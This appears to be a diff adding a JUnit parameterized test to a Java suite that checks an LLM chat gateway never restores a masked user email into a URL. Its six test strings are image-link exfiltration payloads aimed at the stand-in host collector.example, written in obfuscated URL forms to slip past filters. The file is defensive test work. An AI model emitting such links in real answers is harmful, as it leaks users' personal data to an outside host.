@@ -443,6 +443,23 @@ class ChannelAttackTest {
                         + "![x](https://img.example/p.png?u=[EMAIL_1])");
     }
 
+    @org.junit.jupiter.params.ParameterizedTest
+    @org.junit.jupiter.params.provider.ValueSource(
+            strings = {
+                "![a](https&colon;//collector.example/c?e=[EMAIL_1])", // CommonMark decodes the reference
+                "<img src=\"https:\\\\collector.example/c?e=[EMAIL_1]\">", // https:\\ reads as https://
+                "<img src=\"\\\\collector.example/c?e=[EMAIL_1]\">",
+                "![a](http:collector.example/c?e=[EMAIL_1])", // a special scheme needs no slashes
+                "![a](https://collector.example/c?e=([EMAIL_1]))",
+                "![a](HTTPS://collector.example/c?e=[EMAIL_1])"
+            })
+    void aValueIsNotRestoredIntoAUrlHoweverTheUrlIsWritten(String url) {
+        gdpr();
+        answer("Done: " + url);
+        ChatResponse r = gate.chat(request().user("Email me at " + EMAIL).build());
+        assertThat(r.text()).as(url).doesNotContain(EMAIL).contains("[EMAIL_1]");
+    }
+
     @Test
     void aValueRestoredIntoAJsonAnswerKeepsItJson() throws Exception {
         gate(Policy.builder()
